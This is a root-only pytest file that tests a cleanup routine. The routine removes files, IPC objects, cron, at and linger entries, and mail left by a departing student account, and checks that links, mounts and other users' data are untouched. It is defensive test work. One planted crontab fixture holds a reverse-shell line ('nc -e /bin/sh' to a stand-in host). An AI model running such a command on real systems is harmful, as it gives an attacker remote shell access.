"""What a leaving student leaves outside their home, planted as that student and swept
(agent/sweep.py).

Real accounts (wodtw1 leaves the seat, wodtw2 is another student of the host) plant files as
themselves (`runuser`) in the real /tmp, /var/tmp and /dev/shm, and SysV IPC objects with
`ipcmk`. The cron, at and linger spools are temporary stand-ins outside the swept folders (no
daemon is installed here; a stand-in below /tmp would be swept for the wrong reason); the
mail spool is the real /var/mail. Link targets, the other student's files and folders are
compared whole afterwards: nothing outside what wodtw1 owns was removed, changed or chowned.
"""

from __future__ import annotations

import grp
import hashlib
import os
import pwd
import secrets
import shutil
import stat
import subprocess
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from wodsync.agent import sweep

from helpers import remove_test_accounts

pytestmark = pytest.mark.skipif(os.geteuid() != 0,
                                reason="needs root (real accounts, /tmp, SysV IPC)")

PREFIX, UID_BASE = "wodtw", 55000
TEST_UIDS = range(55001, 55011)
ROOTS = ("/tmp", "/var/tmp", "/dev/shm")
SYSTEM_PYTHON = "/usr/bin/python3"


@dataclass(frozen=True)
class Student:
    name: str
    uid: int

    def run(self, *argv: str) -> str:
        """A command as this student, by its own processes (what a participant can do)."""
        done = subprocess.run(["runuser", "-u", self.name, "--", *argv],
                              capture_output=True, text=True, timeout=30)
        assert done.returncode == 0, f"{self.name}: {argv}: {done.stderr}"
        return done.stdout


LEAVER, OTHER = Student("wodtw1", 55001), Student("wodtw2", 55002)


def _taken() -> list[str]:
    """Names and ids of this file's accounts that something else on the machine holds."""
    found = []
    for s in (LEAVER, OTHER):
        for lookup, key, what in ((pwd.getpwnam, s.name, "user"), (pwd.getpwuid, s.uid, "uid"),
                                  (grp.getgrnam, s.name, "group"), (grp.getgrgid, s.uid, "gid")):
            try:
                lookup(key)  # type: ignore[operator]
                found.append(f"{what} {key}")
            except KeyError:
                pass
    return found


def _ipc_rows(uids) -> list[tuple[str, str, str]]:
    """(ipcrm flag, id, table) of every SysV IPC object owned or created by one of `uids`:
    read here independently of the code under test."""
    rows = []
    for table, flag, column in (("shm", "-m", "shmid"), ("msg", "-q", "msqid"),
                                ("sem", "-s", "semid")):
        lines = Path("/proc/sysvipc", table).read_text().splitlines()
        header = lines[0].split()
        for line in lines[1:]:
            row = dict(zip(header, line.split(), strict=True))
            if int(row["uid"]) in uids or int(row["cuid"]) in uids:
                rows.append((flag, row[column], table))
    return rows


def _remove_ipc() -> None:
    for flag, ident, _ in _ipc_rows(TEST_UIDS):
        subprocess.run(["ipcrm", flag, ident], check=False, capture_output=True)


@pytest.fixture(scope="module")
def students() -> Iterator[tuple[Student, Student]]:
    remove_test_accounts(PREFIX, UID_BASE)  # what an interrupted run left
    taken = _taken()
    if taken:
        pytest.skip(f"the test accounts' names or ids are taken on this machine: "
                    f"{', '.join(taken)}")
    try:
        for s in (LEAVER, OTHER):
            subprocess.run(["useradd", "--no-create-home", "-d", "/nonexistent", "-s",
                            "/usr/sbin/nologin", "-u", str(s.uid), "-U", s.name],
                           check=True, capture_output=True)
        yield LEAVER, OTHER
    finally:
        _remove_ipc()
        remove_test_accounts(PREFIX, UID_BASE)


class Plant:
    """Paths a test plants, under one random tag, all removed afterwards (links as links)."""

    def __init__(self) -> None:
        self.tag = "wodsweep-" + secrets.token_hex(4)
        self.paths: list[str] = []

    def at(self, root: str, suffix: str = "") -> str:
        path = f"{root}/{self.tag}{suffix}"
        self.paths.append(path)
        return path

    def lines(self, left: list[str]) -> list[str]:
        """The report lines about what this test planted. Other test files of this repository
        may hold trees deeper than the walk's bound in /tmp while this runs; their lines are
        about them, not about the seat."""
        return [line for line in left if self.tag in line or "deeper than" not in line]

    def remove(self) -> None:
        """Every path is tried; nothing is followed (root may not even look through a link
        a student planted in a sticky folder: fs.protected_symlinks)."""
        failed = []
        for path in reversed(self.paths):
            try:
                st = os.lstat(path)
                if not stat.S_ISDIR(st.st_mode):
                    Path(path).unlink()
                    continue
                if Path(path).is_mount():
                    subprocess.run(["umount", "-l", path], check=False, capture_output=True)
                shutil.rmtree(path)
            except FileNotFoundError:
                continue
            except OSError as exc:
                failed.append(f"{path}: {exc}")
        assert not failed, failed


@pytest.fixture
def plant() -> Iterator[Plant]:
    planted = Plant()
    try:
        yield planted
    finally:
        planted.remove()
        _remove_ipc()


@pytest.fixture
def outside() -> Iterator[Path]:
    """A root-owned folder outside every swept folder, for link targets and spool stand-ins."""
    path = Path(tempfile.mkdtemp(prefix="wodsweep-", dir="/var/lib"))
    try:
        path.chmod(0o755)
        yield path
    finally:
        shutil.rmtree(path, ignore_errors=True)


@dataclass
class Spools:
    crontabs: Path
    atjobs: Path
    atspool: Path
    linger: Path
    mail: Path


@pytest.fixture
def spools(outside, monkeypatch) -> Iterator[Spools]:
    """Debian's cron, at and logind folders as stand-ins (modes as the packages make them);
    the real /var/mail when the machine has one. Mailboxes of the test accounts are removed
    afterwards."""
    found = Spools(outside / "crontabs", outside / "atjobs", outside / "atspool",
                   outside / "linger", Path(sweep.MAIL_DIR))
    for folder, mode in ((found.crontabs, 0o1730), (found.atjobs, 0o1770),
                         (found.atspool, 0o1770), (found.linger, 0o755)):
        folder.mkdir()
        folder.chmod(mode)
    monkeypatch.setattr(sweep, "CRONTABS_DIR", str(found.crontabs))
    monkeypatch.setattr(sweep, "AT_DIRS", (str(found.atjobs), str(found.atspool)))
    monkeypatch.setattr(sweep, "LINGER_DIR", str(found.linger))
    if not found.mail.is_dir():
        found.mail = outside / "mail"
        found.mail.mkdir()
        monkeypatch.setattr(sweep, "MAIL_DIR", str(found.mail))
    try:
        yield found
    finally:
        for s in (LEAVER, OTHER):
            (found.mail / s.name).unlink(missing_ok=True)


def _write(path: Path, data: bytes, uid: int, mode: int) -> Path:
    """A file as a daemon leaves it: written by root, then given to its owner."""
    path.write_bytes(data)
    os.chown(path, uid, uid)
    path.chmod(mode)
    return path


def _fingerprint(path: str | Path) -> tuple:
    """Type, owner, mode, inode, size, mtime and content; a folder's listing stands for its
    size and mtime (the seat's entries in another student's folder come and go)."""
    st = os.lstat(path)
    size, mtime = st.st_size, st.st_mtime_ns
    if stat.S_ISREG(st.st_mode):
        body: object = hashlib.sha256(Path(path).read_bytes()).hexdigest()
    elif stat.S_ISDIR(st.st_mode):
        body, size, mtime = _names(path), 0, 0
    elif stat.S_ISLNK(st.st_mode):
        body = str(Path(path).readlink())
    else:
        body = None
    return (stat.S_IFMT(st.st_mode), st.st_uid, st.st_gid, stat.S_IMODE(st.st_mode),
            st.st_ino, size, mtime, body)


def _names(folder: str | Path) -> list[str]:
    return sorted(entry.name for entry in Path(folder).iterdir())


def _ipcmk(student: Student, *argv: str) -> str:
    """The id `ipcmk` prints ("Shared memory id: 5")."""
    return student.run("ipcmk", *argv).strip().rsplit(":", 1)[1].strip()


def _outside_targets(outside: Path, leaver: Student) -> tuple[Path, Path, Path]:
    """A root-owned file, and a folder holding a file of the leaver: outside every swept
    folder, so a walk that follows a link to them would wrongly change them."""
    target = _write(outside / "target", b"root's own\n", 0, 0o644)
    kept = outside / "kept"
    kept.mkdir()
    own = _write(kept / "own-file", b"the seat's, but not in /tmp\n", leaver.uid, 0o600)
    return target, kept, own


# -- the attack ------------------------------------------------------------------------------

def test_everything_the_seat_left_outside_its_home_goes(students, plant, outside, spools):
    leaver, other = students
    target, kept, own = _outside_targets(outside, leaver)
    gone: list[str] = []
    stays: list[str] = [str(target), str(kept), str(own)]
    before = {}
    for root in ROOTS:
        top = plant.at(root)
        leaver.run("mkdir", "-p", f"{top}/nested/deeper")
        leaver.run("touch", f"{top}/nested/one", f"{top}/nested/deeper/two", f"{top}/three",
                   f"{top}/nested/a name with\na newline")
        leaver.run("mkdir", f"{top}/locked")
        leaver.run("touch", f"{top}/locked/inside")
        leaver.run("chmod", "000", f"{top}/locked")
        file = plant.at(root, "-file")
        leaver.run("touch", file)
        fifo = plant.at(root, "-fifo")
        leaver.run("mkfifo", fifo)
        link = plant.at(root, "-link")
        leaver.run("ln", "-s", str(target), link)
        folder_link = plant.at(root, "-folder-link")
        leaver.run("ln", "-s", str(kept), folder_link)
        hard = plant.at(root, "-hard")
        leaver.run("ln", file, hard)
        setuid = plant.at(root, "-setuid")
        leaver.run("cp", "/bin/true", setuid)
        leaver.run("chmod", "u+s,g+s", setuid)
        assert Path(setuid).stat().st_mode & stat.S_ISUID
        shared = plant.at(root, "-shared")  # the other student's world-writable folder
        other.run("mkdir", shared)
        other.run("chmod", "0777", shared)
        other.run("touch", f"{shared}/theirs")
        other.run("mkdir", f"{shared}/their-folder")
        other.run("chmod", "0777", f"{shared}/their-folder")
        before.update({p: _fingerprint(p) for p in (shared, f"{shared}/theirs",
                                                   f"{shared}/their-folder")})
        leaver.run("touch", f"{shared}/mine", f"{shared}/their-folder/mine-too")
        leaver.run("mkdir", f"{shared}/my-folder")
        leaver.run("mkfifo", f"{shared}/my-folder/fifo")
        gone += [top, file, fifo, link, folder_link, hard, setuid, f"{shared}/mine",
                 f"{shared}/their-folder/mine-too", f"{shared}/my-folder"]

    leavers_ipc = [_ipcmk(leaver, "-M", "1024"), _ipcmk(leaver, "-Q"), _ipcmk(leaver, "-S", "2")]
    others_shm = _ipcmk(other, "-M", "1024")
    assert len(_ipc_rows([leaver.uid])) == 3, leavers_ipc

    _write(spools.crontabs / leaver.name, b"* * * * * nc -e /bin/sh evil 1\n", leaver.uid, 0o600)
    _write(spools.atjobs / "a0001001b2c3d4", b"#!/bin/sh\n", leaver.uid, 0o700)
    _write(spools.atspool / "=0001001b2c3d4", b"output\n", leaver.uid, 0o600)
    _write(spools.linger / leaver.name, b"", 0, 0o644)  # logind's flag is root's
    _write(spools.mail / leaver.name, b"From: someone\n\nfor the last occupant\n",
           leaver.uid, 0o660)
    others_spool = [
        _write(spools.crontabs / other.name, b"# theirs\n", other.uid, 0o600),
        _write(spools.atjobs / "a0001101b2c3d4", b"#!/bin/sh\n", other.uid, 0o700),
        _write(spools.atjobs / ".SEQ", b"11\n", 1, 0o600),  # at's daemon account
        _write(spools.linger / other.name, b"", 0, 0o644),
        _write(spools.mail / other.name, b"theirs\n", other.uid, 0o660),
    ]
    stays += [str(p) for p in others_spool]
    before.update({path: _fingerprint(path) for path in stays})

    assert plant.lines(sweep.sweep(leaver.uid, leaver.name)) == []

    assert [p for p in gone if os.path.lexists(p)] == []
    assert {path: _fingerprint(path) for path in before} == before
    assert _ipc_rows([leaver.uid]) == []
    assert [ident for _, ident, table in _ipc_rows([other.uid]) if table == "shm"] \
        == [others_shm]
    assert _names(spools.crontabs) == [other.name]
    assert _names(spools.atjobs) == [".SEQ", "a0001101b2c3d4"]
    assert _names(spools.atspool) == []
    assert _names(spools.linger) == [other.name]
    assert not os.path.lexists(spools.mail / leaver.name)
    assert plant.lines(sweep.sweep(leaver.uid, leaver.name)) == []  # a second sweep: nothing


def test_a_folder_of_the_seat_holding_another_accounts_file_is_kept_and_reported(
        students, plant):
    leaver, other = students
    folder = plant.at("/tmp")
    leaver.run("mkdir", folder)
    leaver.run("chmod", "0777", folder)
    leaver.run("touch", f"{folder}/mine")
    other.run("touch", f"{folder}/theirs")
    before = _fingerprint(f"{folder}/theirs")

    left = sweep.sweep(leaver.uid, leaver.name)

    assert [line for line in left if plant.tag in line] == [
        f"{folder}: folder of uid {leaver.uid} kept: it still holds theirs (uid {other.uid})"]
    assert _fingerprint(f"{folder}/theirs") == before
    assert not os.path.lexists(f"{folder}/mine")
    st = os.lstat(folder)  # left as it was: not chowned, not chmodded
    assert (st.st_uid, stat.S_IMODE(st.st_mode)) == (leaver.uid, 0o777)


@pytest.mark.parametrize(("uid", "user"), [
    (0, "root"), (1, "daemon"), (999, "wodtw999"), (65534, "nobody"), (65535, "wodtw"),
    (55001, "wodtw2"), (55001, "../wodtw1"), (55001, ""), (55999, "wodtw1"),
])
def test_system_accounts_and_mismatched_names_are_refused(students, uid, user):
    with pytest.raises(ValueError):
        sweep.sweep(uid, user)


def test_a_link_planted_in_place_of_a_folder_is_removed_as_a_link(
        students, plant, outside, spools):
    leaver, _ = students
    target, kept, own = _outside_targets(outside, leaver)
    etc_link, folder_link, file_link = (plant.at("/tmp", "-x"), plant.at("/var/tmp", "-x"),
                                        plant.at("/dev/shm", "-x"))
    leaver.run("ln", "-s", "/etc", etc_link)
    leaver.run("ln", "-s", str(kept), folder_link)
    leaver.run("ln", "-s", str(own), file_link)
    crontab = spools.crontabs / leaver.name  # a link where cron keeps the crontab
    crontab.symlink_to(target)
    os.lchown(crontab, leaver.uid, leaver.uid)
    watched = [str(target), str(kept), str(own), "/etc/os-release"]
    before = {path: _fingerprint(path) for path in watched}

    assert plant.lines(sweep.sweep(leaver.uid, leaver.name)) == []

    assert [p for p in (etc_link, folder_link, file_link, crontab) if os.path.lexists(p)] == []
    assert {path: _fingerprint(path) for path in watched} == before
    assert Path("/etc").is_dir() and not Path("/etc").is_symlink()


@pytest.mark.parametrize("seen_in_mountinfo", [True, False], ids=["mountinfo", "st_dev"])
def test_another_filesystem_is_never_entered(students, plant, monkeypatch, seen_in_mountinfo):
    """A mount below /tmp holding the seat's file: known from mountinfo, it is not even
    examined; one that appeared after mountinfo was read is told by its st_dev."""
    leaver, _ = students
    point = plant.at("/tmp", "-mnt")
    Path(point).mkdir()
    os.chown(point, leaver.uid, leaver.uid)
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size=1m,mode=0700,uid={leaver.uid}",
                              "wodsweep", point], capture_output=True, text=True)
    if mounted.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {mounted.stderr.strip()}")
    try:
        leaver.run("touch", f"{point}/inside")
        if not seen_in_mountinfo:
            monkeypatch.setattr(sweep, "_mount_points", dict)

        lines = [line for line in sweep.sweep(leaver.uid, leaver.name) if plant.tag in line]

        assert Path(point, "inside").exists()
        expected = [] if seen_in_mountinfo \
            else [f"{point}: on another filesystem (a mount point): left alone"]
        assert lines == expected
    finally:
        subprocess.run(["umount", point], check=True)


def test_the_depth_bound_stops_the_walk_and_says_so(students, plant, monkeypatch):
    leaver, _ = students
    monkeypatch.setattr(sweep, "MAX_DEPTH", 3)
    top = plant.at("/var/tmp")
    leaver.run("mkdir", "-p", f"{top}/a/b/c")
    leaver.run("touch", f"{top}/a/b/c/deep", f"{top}/a/shallow")

    lines = [line for line in sweep.sweep(leaver.uid, leaver.name) if plant.tag in line]

    assert f"{top}/a/b/c: deeper than 3 folders: not swept" in lines
    assert f"{top}/a/b: folder of uid {leaver.uid} kept: it still holds c (uid {leaver.uid})" \
        in lines
    assert Path(top, "a/b/c/deep").exists()
    assert not Path(top, "a/shallow").exists()


def test_the_entry_bound_stops_the_walk_and_says_so(students, plant, monkeypatch):
    leaver, _ = students
    monkeypatch.setattr(sweep, "MAX_ENTRIES", 5)
    top = plant.at("/var/tmp")
    leaver.run("mkdir", top)
    leaver.run("touch", *(f"{top}/f{i}" for i in range(10)))

    left = sweep.sweep(leaver.uid, leaver.name, roots=("/var/tmp",))

    assert "/var/tmp: stopped after 5 entries: the rest was not swept" in left
    assert _names(top)  # not everything went: the bound held


def test_posix_message_queues_go(students, outside):
    """mqueue is one filesystem per IPC namespace: mounted anywhere, it shows the host's
    queues; a student's queue (mq_open) is a file there, removed like any other."""
    leaver, other = students
    folder = outside / "mqueue"
    folder.mkdir()
    mounted = subprocess.run(["mount", "-t", "mqueue", "wodsweep", str(folder)],
                             capture_output=True, text=True)
    if mounted.returncode != 0:
        pytest.skip(f"cannot mount mqueue here: {mounted.stderr.strip()}")
    try:
        make = ("import ctypes, os, sys\n"
                "libc = ctypes.CDLL(None, use_errno=True)\n"
                "fd = libc.mq_open(sys.argv[1].encode(), os.O_CREAT | os.O_RDWR, 0o600, None)\n"
                "sys.exit(0 if fd >= 0 else ctypes.get_errno())\n")
        leaver.run(SYSTEM_PYTHON, "-c", make, f"/{outside.name}-leaver")
        other.run(SYSTEM_PYTHON, "-c", make, f"/{outside.name}-other")
        assert len([n for n in _names(folder) if n.startswith(outside.name)]) == 2

        assert sweep.sweep(leaver.uid, leaver.name, roots=(str(folder),)) == []

        assert [n for n in _names(folder) if n.startswith(outside.name)] \
            == [f"{outside.name}-other"]
    finally:
        for name in _names(folder):
            if name.startswith(outside.name):
                (folder / name).unlink()
        subprocess.run(["umount", str(folder)], check=True)


def test_a_segment_another_process_still_attaches_is_marked_and_reported(students, plant):
    """ipcrm only marks an attached segment; a process of another account (kill_uid would
    not end it) keeps it until it detaches, and the sweep says so."""
    leaver, _ = students
    shmid = _ipcmk(leaver, "-M", "4096", "-p", "0666")
    attach = ("import ctypes, sys, time\n"
              "libc = ctypes.CDLL(None, use_errno=True)\n"
              "libc.shmat.restype = ctypes.c_void_p\n"
              "address = libc.shmat(int(sys.argv[1]), None, 0)\n"
              "print('attached' if address not in (None, 2 ** 64 - 1) else 'failed', flush=True)\n"
              "time.sleep(60)\n")
    holder = subprocess.Popen([SYSTEM_PYTHON, "-c", attach, shmid], stdout=subprocess.PIPE,
                              text=True)
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "attached"

        lines = [line for line in sweep.sweep(leaver.uid, leaver.name) if "shared memory" in line]

        assert lines == [f"shared memory segment {shmid} of uid {leaver.uid}: marked for "
                         f"removal; it goes when its 1 attachments end"]
    finally:
        holder.kill()
        holder.wait()
    assert _ipc_rows([leaver.uid]) == []


def test_sysvipc_tables_are_read_by_their_header():
    text = ("      perms   cuid    msqid  uid  key\n"
            "        600  55001        7    0    0\n"
            "        600      0        8  55001  0\n"
            "        600      0        9    0    0\n"
            "        600  55001\n")
    assert [row["msqid"] for row in sweep.owned_ipc(text, "msqid", 55001)] == ["7", "8"]
    with pytest.raises(ValueError, match="cuid"):
        sweep.owned_ipc("key msqid perms uid\n", "msqid", 55001)


def test_the_seat_s_home_and_the_homes_root_are_never_swept(students, plant):
    """A pool whose homes live under a swept folder (a test lab's, or an odd host's): the
    seat's home — emptied by its own step, or kept for a RESET — and the other homes stay."""
    leaver, other = students
    root = plant.at("/tmp", "-homes")
    Path(root).mkdir(mode=0o755)
    home, neighbour = Path(root) / leaver.name, Path(root) / other.name
    for who, folder in ((leaver, home), (other, neighbour)):
        folder.mkdir(mode=0o700)
        os.chown(folder, who.uid, who.uid)
        who.run("touch", f"{folder}/work.ipynb")
    stray = plant.at("/tmp", "-stray")
    leaver.run("touch", stray)

    left = sweep.sweep(leaver.uid, leaver.name, keep=(str(home), root))

    assert plant.lines(left) == []
    assert (home / "work.ipynb").exists() and (neighbour / "work.ipynb").exists()
    assert not os.path.lexists(stray), "the rest of what the uid left still goes"


def test_a_folder_only_its_owner_may_pass_is_not_walked(students, plant):
    """What the seat could reach goes; a folder only another account may pass through (an
    0700 one: its private tmp) is not walked — the seat cannot reach what lies in there — and
    that is what keeps a busy /tmp cheap to sweep."""
    leaver, other = students
    for mode, gone in ((0o700, False), (0o711, True)):
        folder = Path(plant.at("/tmp", f"-{mode:o}"))
        folder.mkdir()
        os.chown(folder, other.uid, other.uid)
        folder.chmod(mode)
        planted = _write(folder / "left-by-the-seat", b"x", leaver.uid, 0o600)
        assert plant.lines(sweep.sweep(leaver.uid, leaver.name)) == []
        assert os.path.lexists(planted) != gone, f"a {mode:o} folder of another account"


def test_a_folder_of_root_the_seat_cannot_write_costs_its_subfolders_only(
        students, plant, monkeypatch):
    """A busy /tmp is mostly root's (checkouts, caches): in a folder of root that neither its
    group nor others may write, the seat cannot have made anything, so its files are not
    examined and do not count against the bound — a host whose /tmp holds more than the bound
    of those still finishes its releases. A world-writable folder inside it is still swept."""
    leaver, _ = students
    monkeypatch.setattr(sweep, "MAX_ENTRIES", 40)
    shared = Path(plant.at("/var/tmp"))  # a /tmp of its own: the swept root
    shared.mkdir()
    shared.chmod(0o1777)
    cache = shared / "roots-cache"
    (cache / "deep").mkdir(mode=0o755, parents=True)
    for n in range(150):
        _write(cache / f"file-{n}", b"x", 0, 0o644)
        _write(cache / "deep" / f"file-{n}", b"x", 0, 0o644)
    open_inside = cache / "deep" / "open"
    open_inside.mkdir()
    open_inside.chmod(0o1777)
    leaver.run("touch", f"{open_inside}/left-by-the-seat", f"{shared}/in-the-root")
    root_put = _write(cache / "given-by-root", b"x", leaver.uid, 0o600)

    left = sweep.sweep(leaver.uid, leaver.name, roots=(str(shared),))

    assert left == [], left
    assert not (open_inside / "left-by-the-seat").exists(), "the open folder was swept"
    assert not (shared / "in-the-root").exists()
    assert root_put.exists(), "root's folder: what root put there is root's business"

    monkeypatch.setattr(sweep, "MAX_SKIMMED", 100)
    leaver.run("touch", f"{open_inside}/again")
    left = sweep.sweep(leaver.uid, leaver.name, roots=(str(shared),))
    assert [line for line in left if line.endswith(
        ": stopped after reading 100 names in folders the seat cannot write: the rest was "
        "not swept")], left
